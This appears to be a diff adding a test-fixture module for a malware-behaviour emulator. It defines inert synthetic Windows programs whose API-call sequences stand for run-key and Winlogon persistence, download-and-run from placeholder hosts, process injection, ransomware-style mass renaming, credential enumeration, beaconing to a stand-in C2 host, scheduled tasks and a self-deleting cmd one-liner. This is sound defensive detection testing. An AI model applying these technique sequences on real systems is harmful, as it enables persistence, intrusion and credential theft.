@@ -1,0 +1,149 @@
+"""Programs of our own with what must be said of each when it is emulated: inert, made by `program_writer`, shared by tests and benchmark.
+
+``python tests/emulation_vectors.py`` writes those of `tests/golden/`.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from program_writer import Again, Raw, Step, call, keep, kept, program, slot, wide
+
+_RUN = "Software\\Microsoft\\Windows\\CurrentVersion\\Run"
+_HERE = "C:\\Users\\k.tanaka\\Desktop\\sample.exe"
+_PUBLIC = "C:\\Users\\Public\\update.exe"
+_ROOTS = 0x80000001, 0x80000002  # HKEY_CURRENT_USER, HKEY_LOCAL_MACHINE
+
+
+def _written(path: str, text: bytes = b"MZ made by us") -> list[Step]:
+    return [
+        call("kernel32", "CreateFileA", path, 0x40000000, 0, 0, 2, 0x80, 0),
+        keep(0),
+        call("kernel32", "WriteFile", kept(0), text, len(text), slot(1), 0),
+        call("kernel32", "CloseHandle", kept(0)),
+    ]
+
+
+def _asked(url: str) -> list[Step]:
+    return [
+        call("wininet", "InternetOpenA", "agent", 0, 0, 0, 0),
+        keep(2),
+        call("wininet", "InternetOpenUrlA", kept(2), url, 0, 0, 0, 0),
+    ]
+
+
+def _value(root: int, key: str, name: str, text: str) -> list[Step]:
+    return [
+        call("advapi32", "RegCreateKeyExW", root, wide(key), 0, 0, 0, 0x20006, 0, slot(3), 0),
+        call("advapi32", "RegSetValueExW", kept(3), wide(name), 0, 1, wide(text), 2 * len(text) + 2),
+    ]
+
+
+def _elsewhere() -> list[Step]:
+    return [
+        call("kernel32", "CreateProcessA", "C:\\Windows\\System32\\notepad.exe", 0, 0, 0, 0, 4, 0, 0, bytes(104), slot(10)),
+        call("kernel32", "VirtualAllocEx", kept(10), 0, 4096, 0x3000, 0x40),
+        keep(4),
+        call("kernel32", "WriteProcessMemory", kept(10), kept(4), b"\xc3\xc3\xc3\xc3", 4, 0),
+        call("kernel32", "CreateRemoteThread", kept(10), 0, 0, kept(4), 0, 0, 0),
+    ]  # fmt: skip
+
+
+#: Steps by name, with the features that must be seen.
+BEHAVIOR: dict[str, tuple[list[Step], set[str]]] = {
+    "run key": (_value(_ROOTS[0], _RUN, "Updater", _PUBLIC), {"behavior.run_key"}),
+    "logon shell": (
+        _value(_ROOTS[1], "Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon", "Shell", "explorer.exe,x.exe"),
+        {"behavior.logon_program"},
+    ),
+    "fetched by urlmon and started": (
+        [
+            call("urlmon", "URLDownloadToFileA", 0, "http://files.example.com/a.exe", _PUBLIC, 0, 0),
+            call("kernel32", "WinExec", _PUBLIC, 0),
+        ],
+        {"behavior.download_and_run", "behavior.contacts"},
+    ),
+    "fetched by wininet and started": (
+        [
+            *_asked("http://files.example.com/b.bin"),
+            *_written(_PUBLIC),
+            call("shell32", "ShellExecuteW", 0, wide("open"), wide(_PUBLIC), 0, 0, 0),
+        ],
+        {"behavior.download_and_run"},
+    ),
+    "dropped and started": (
+        [*_written(_PUBLIC), call("kernel32", "WinExec", f'"{_PUBLIC}" /quiet', 0)],
+        {"behavior.drop_and_run"},
+    ),
+    "thread in another process": (_elsewhere(), {"behavior.injection"}),
+    "many renamed": (
+        [call("kernel32", "MoveFileExA", f"C:\\Users\\Public\\{n}.docx", f"C:\\Users\\Public\\{n}.docx.locked", 1) for n in range(12)],
+        {"behavior.mass_rename"},
+    ),
+    "stored credentials": ([call("advapi32", "CredEnumerateW", 0, 0, slot(5), slot(6))], {"behavior.credential_store"}),
+    "deletes itself": (
+        [call("kernel32", "WinExec", f'cmd.exe /c ping -n 3 127.0.0.1 & del "{_HERE}"', 0)],
+        {"behavior.self_delete"},
+    ),
+    "deletes itself at the next start": (
+        [call("kernel32", "MoveFileExW", wide(_HERE), 0, 4)],
+        {"behavior.self_delete"},
+    ),
+    "beacons": (
+        [*_asked("http://c2.example.net/q"), call("kernel32", "Sleep", 60_000)] * 4,
+        {"behavior.beaconing", "behavior.contacts"},
+    ),
+    "scheduled task": (
+        [call("kernel32", "WinExec", f"schtasks /create /sc minute /tn Updater /tr {_PUBLIC}", 0)],
+        {"behavior.scheduled_task"},
+    ),
+}  # fmt: skip
+
+#: What an honest program may do, of which nothing is said but where it connects to.
+HONEST: dict[str, list[Step]] = {
+    "writes a setting": _value(_ROOTS[0], "Software\\Example\\Editor", "Language", "ja"),
+    "writes a report": _written("C:\\Users\\k.tanaka\\Documents\\report.txt", b"The minutes of the meeting."),
+    "renames three files": [call("kernel32", "MoveFileA", f"C:\\Temp\\{n}.tmp", f"C:\\Temp\\{n}.txt") for n in range(3)],
+    "asks for a page": _asked("https://www.example.com/version"),
+    "opens a page in the browser": [call("shell32", "ShellExecuteA", 0, "open", "https://www.example.com/", 0, 0, 1)],
+    "waits": [call("kernel32", "Sleep", 1000), call("kernel32", "GetTickCount")],
+}  # fmt: skip
+
+_CHANGED = b"\xe8\0\0\0\0\x58\xc6\x40\x05\x90\xf4"  # finds itself, and turns its own hlt into a nop
+
+#: What must end, with a word of the reason; "" where it must come to its own end.
+HOSTILE: dict[str, tuple[bytes, str]] = {
+    "endless loop": (program([Again()]), "out of time"),
+    "endless sleep": (program([call("kernel32", "Sleep", 3_600_000), Again()]), "out of time"),
+    "endless recursion": (program([Raw(b"\xe8\xfb\xff\xff\xff")]), "invalid"),
+    "process after process": (
+        program([call("kernel32", "WinExec", "C:\\Users\\k.tanaka\\Desktop\\sample.exe", 0), Again()]),
+        "out of time",
+    ),
+    "all memory": (
+        program([call("kernel32", "VirtualAlloc", 0, 0x40000000, 0x3000, 4), Again()]),
+        "memory",
+    ),
+    "memory bit by bit": (
+        program([call("kernel32", "VirtualAlloc", 0, 0x2000000, 0x3000, 4), Again()]),
+        "memory",
+    ),
+    "changes itself": (program([Raw(_CHANGED), call("kernel32", "WinExec", "notepad.exe", 0)]), ""),
+    "unknown call": (program([call("unheardof", "DoSomethingOdd", 1)]), "not known"),
+    ".NET": (program([call("mscoree", "_CorExeMain")], dotnet=True), ".NET"),
+    "half a program": (program([Again()])[:100], "PEFormatError"),
+}
+
+
+def sample(name: str, bits: int = 32, export: str = "") -> bytes:
+    """The program of a name among `BEHAVIOR` or `HONEST`."""
+    steps = BEHAVIOR[name][0] if name in BEHAVIOR else HONEST[name]
+    return program(steps, bits=bits, export=export)
+
+
+if __name__ == "__main__":
+    folder = Path(__file__).parent / "golden" / "emulate"
+    folder.mkdir(exist_ok=True)
+    (folder / "credentials.in").write_bytes(sample("stored credentials"))
+    (folder / "near_miss.in").write_bytes(sample("writes a report", 64))
+    (folder / "unknown_call.in").write_bytes(HOSTILE["unknown call"][0])
